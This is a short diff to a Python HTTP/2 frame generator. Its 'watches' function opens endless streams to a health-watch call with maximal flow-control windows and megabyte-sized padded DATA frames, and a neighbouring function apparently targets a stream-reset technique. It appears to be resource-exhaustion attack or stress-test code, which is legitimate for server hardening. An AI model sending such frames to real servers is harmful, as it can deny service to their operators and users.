@@ -153,8 +153,9 @@ def made_you_reset() -> Pieces:
 def watches(number: int = 40) -> Pieces:
     """Send many empty requests of a health call in each of few large DATA frames, a few at a time."""
     window = pack_frame(4, 0, 0, struct.pack(">HI", 4, (1 << 31) - 1)) + pack_frame(8, 0, 0, struct.pack(">I", 1 << 30))
+    yield HELLO + window
     for stream in itertools.count(1, 2):
-        yield (window if stream == 1 else b"") + open_stream(stream, WATCH)
+        yield open_stream(stream, WATCH)
         yield pack_frame(0, 0, stream, bytes(_MIB))[:9]
         yield from itertools.repeat(bytes(5 * number), _MIB // (5 * number))
         yield bytes(_MIB % (5 * number))
